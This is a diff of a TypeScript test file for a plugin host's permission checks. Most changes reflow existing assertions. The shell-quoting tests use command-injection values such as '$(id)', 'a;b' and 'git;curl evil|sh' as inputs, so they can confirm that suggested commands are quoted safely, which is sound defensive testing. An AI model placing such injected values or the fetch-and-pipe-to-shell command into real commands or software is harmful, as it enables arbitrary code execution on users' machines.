@@ -25,8 +25,18 @@ const g = (over: Partial<Grants> = {}): Grants => ({ ...emptyGrants(), ...over }
 
 describe('identity: the catalog entry, never what the component declares', () => {
   it('each source has its own key space and directory prefix', () => {
-    expect(identityOf({ source: 'embedded', file: '/pkg/plugins/keys/dist/keys.wasm' })).toEqual({ kind: 'core', key: 'core:keys', dirName: 'core.keys', remembers: true });
-    expect(identityOf({ source: 'installed', file: '/d/plugins/keys.wasm' })).toEqual({ kind: 'installed', key: 'installed:keys', dirName: 'installed.keys', remembers: true });
+    expect(identityOf({ source: 'embedded', file: '/pkg/plugins/keys/dist/keys.wasm' })).toEqual({
+      kind: 'core',
+      key: 'core:keys',
+      dirName: 'core.keys',
+      remembers: true,
+    });
+    expect(identityOf({ source: 'installed', file: '/d/plugins/keys.wasm' })).toEqual({
+      kind: 'installed',
+      key: 'installed:keys',
+      dirName: 'installed.keys',
+      remembers: true,
+    });
     const path = identityOf({ source: 'path', file: '/opt/p/keys.wasm' });
     expect(path).toMatchObject({ kind: 'path', key: 'path:/opt/p/keys.wasm', remembers: true });
     expect(path.dirName).toMatch(/^path\.keys\.[0-9a-f]{12}$/);
@@ -79,7 +89,10 @@ describe("wash's own directories", () => {
     expect(reservedPath('/home/u/.cache/wash/', dirs, pkg)).toMatchObject({ relation: 'inside' });
     expect(reservedPath('/home/u', dirs, pkg)).toMatchObject({ relation: 'contains', dir: { what: "wash's own config directory" } });
     expect(reservedPath('/', dirs, pkg)).toMatchObject({ relation: 'contains' });
-    expect(reservedPath('/usr/lib/node_modules/wash-ts/plugins/keys', dirs, pkg)).toMatchObject({ relation: 'inside', dir: { what: "wash's installation (core plugins' code)" } });
+    expect(reservedPath('/usr/lib/node_modules/wash-ts/plugins/keys', dirs, pkg)).toMatchObject({
+      relation: 'inside',
+      dir: { what: "wash's installation (core plugins' code)" },
+    });
     expect(reservedPath('/home/u/.cache/washer', dirs, pkg)).toBeUndefined();
     expect(reservedPath('/home/u/.cache/wash-other', dirs, pkg)).toBeUndefined();
     expect(reservedPath('/home/u/.cache/wash/../other', dirs, pkg)).toBeUndefined(); // normalised: /home/u/.cache/other
@@ -90,7 +103,9 @@ describe("wash's own directories", () => {
     const at = (p: string) => reservedPath(p, dirs, pkg)!;
     expect(reservedReason('/home/u/.cache/wash', at('/home/u/.cache/wash'))).toBe("it is wash's own cache directory");
     expect(reservedReason('/home/u/.cache/wash/x', at('/home/u/.cache/wash/x'))).toBe("it is inside wash's own cache directory");
-    expect(reservedReason('/home/u/link', at('/home/u/.config/wash/wash.toml'))).toBe("it is inside wash's own config directory (it leads to /home/u/.config/wash/wash.toml)");
+    expect(reservedReason('/home/u/link', at('/home/u/.config/wash/wash.toml'))).toBe(
+      "it is inside wash's own config directory (it leads to /home/u/.config/wash/wash.toml)",
+    );
     expect(reservedReason('/home/u', at('/home/u'))).toBe("it contains wash's own config directory /home/u/.config/wash");
   });
 });
@@ -175,14 +190,14 @@ describe('the use gate: each thing asked about once per run (a program: per call
 
 describe('outgoing HTTP: only granted patterns, or what the consent session allows', () => {
   type Request = { scheme(): { tag: 'HTTP' | 'HTTPS' | 'other'; val?: string } | undefined; authority(): string | undefined };
-  const request = (scheme: 'HTTP' | 'HTTPS' | string | undefined, authority: string | undefined): Request => ({
+  const request = (scheme: string | undefined, authority: string | undefined): Request => ({
     scheme: () => (scheme === undefined ? undefined : scheme === 'HTTP' || scheme === 'HTTPS' ? { tag: scheme } : { tag: 'other', val: scheme }),
     authority: () => authority,
   });
   const setup = (allowed: string[], ask?: (scheme: string, authority: string) => boolean) => {
     const sent: Request[] = [];
     const denied: string[] = [];
-    const guarded = guardOutgoingHandler({ handle: (r) => (sent.push(r as Request), 'response') }, allowed, (d) => denied.push(d), ask);
+    const guarded = guardOutgoingHandler({ handle: (r) => (sent.push(r), 'response') }, allowed, (d) => denied.push(d), ask);
     const send = (scheme: Parameters<typeof request>[0], authority: string | undefined) => {
       try {
         return guarded.handle(request(scheme, authority));
@@ -269,7 +284,9 @@ describe('the commands wash suggests: safe to paste into a shell', () => {
   });
 
   it('grant options quote every value the plugin chose', () => {
-    expect(grantOptions([read('/tmp/$(id)'), { kind: 'exec', binary: 'a;b', reason: '' }, { kind: 'scratch', reason: '' }])).toBe("--read '/tmp/$(id)' --exec 'a;b' --scratch");
+    expect(grantOptions([read('/tmp/$(id)'), { kind: 'exec', binary: 'a;b', reason: '' }, { kind: 'scratch', reason: '' }])).toBe(
+      "--read '/tmp/$(id)' --exec 'a;b' --scratch",
+    );
     expect(grantCommand('p', [{ kind: 'net', host: 'https://x.com', reason: '' }])).toBe('wash plugin grant p --net https://x.com');
   });
 
@@ -283,9 +300,15 @@ describe('the commands wash suggests: safe to paste into a shell', () => {
     expect(allowFlags([{ kind: 'exec', binary: 'git;curl evil|sh', reason: '' }])).toBe("'--allow-run=git;curl evil|sh'");
     expect(allowFlags([{ kind: 'net', host: 'https://x.com$(id)', reason: '' }])).toBe("'--allow-net=https://x.com$(id)'");
     // Plain values stay readable.
-    expect(allowFlags([{ kind: 'env', name: 'A', reason: '' }, { kind: 'env', name: 'B', reason: '' }, read('/srv'), { kind: 'scratch', reason: '' }, { kind: 'listen', reason: '' }])).toBe(
-      '--allow-env=A,B --allow-read=/srv --allow-scratch --allow-listen',
-    );
+    expect(
+      allowFlags([
+        { kind: 'env', name: 'A', reason: '' },
+        { kind: 'env', name: 'B', reason: '' },
+        read('/srv'),
+        { kind: 'scratch', reason: '' },
+        { kind: 'listen', reason: '' },
+      ]),
+    ).toBe('--allow-env=A,B --allow-read=/srv --allow-scratch --allow-listen');
     expect(allowFlags([])).toBe('');
   });
 
@@ -311,7 +334,10 @@ describe('recorded grants: bound to the identity and the component', () => {
   it('apply to the component they were given to; a core plugin keeps them across wash upgrades', () => {
     const table = { 'installed:p': g({ env: ['A'], digest: 'sha256:old', source: 'oci://r/p:1' }), 'core:p': g({ scratch: true, digest: 'sha256:old' }) };
     expect(recordedGrants(config(table), subject('installed', 'sha256:old')).grants.env).toEqual(['A']);
-    expect(recordedGrants(config(table), subject('installed'))).toEqual({ grants: emptyGrants(), changed: { digest: 'sha256:old', source: 'oci://r/p:1', grants: table['installed:p'] } });
+    expect(recordedGrants(config(table), subject('installed'))).toEqual({
+      grants: emptyGrants(),
+      changed: { digest: 'sha256:old', source: 'oci://r/p:1', grants: table['installed:p'] },
+    });
     expect(recordedGrants(config(table), subject('core')).grants.scratch).toBe(true);
   });
 
@@ -345,7 +371,9 @@ describe('host programs: a denied call never runs', () => {
     const run = createHostExec(denying('answered'));
     expect(() => run('definitely-not-run', [])).toThrow("host-exec of 'definitely-not-run' denied by the user");
     expect(() => createHostExec(denying('recorded'))('x', [])).toThrow("host-exec of 'x' denied by the user");
-    expect(() => createHostExec(denying('undeclared'))('git', [])).toThrow("host-exec of 'git' denied: not granted (declare it in access.host-exec; grant with --allow-run=git)");
+    expect(() => createHostExec(denying('undeclared'))('git', [])).toThrow(
+      "host-exec of 'git' denied: not granted (declare it in access.host-exec; grant with --allow-run=git)",
+    );
     expect(() => createHostExecBackground({ ...denying('no-terminal'), grantHint: (b) => `wash plugin grant p --exec ${b}` })('git', [])).toThrow(
       "host-exec of 'git' denied: not granted (wash plugin grant p --exec git)",
     );
@@ -353,7 +381,10 @@ describe('host programs: a denied call never runs', () => {
 
   it('the consent session is asked with the exact command line and whether it runs in the background', () => {
     const asked: unknown[] = [];
-    const allow = (binary: string, args: string[], background: boolean) => (asked.push([binary, args, background]), { allowed: false, reason: 'answered' as const });
+    const allow = (binary: string, args: string[], background: boolean) => (
+      asked.push([binary, args, background]),
+      { allowed: false, reason: 'answered' as const }
+    );
     expect(() => createHostExec({ pluginName: 'p', timeoutMs: 1, allow })('git', ['log', '--format=%H', '$(x)'])).toThrow();
     expect(() => createHostExecBackground({ pluginName: 'p', timeoutMs: 1, allow })('sleep', ['9'])).toThrow();
     expect(asked).toEqual([
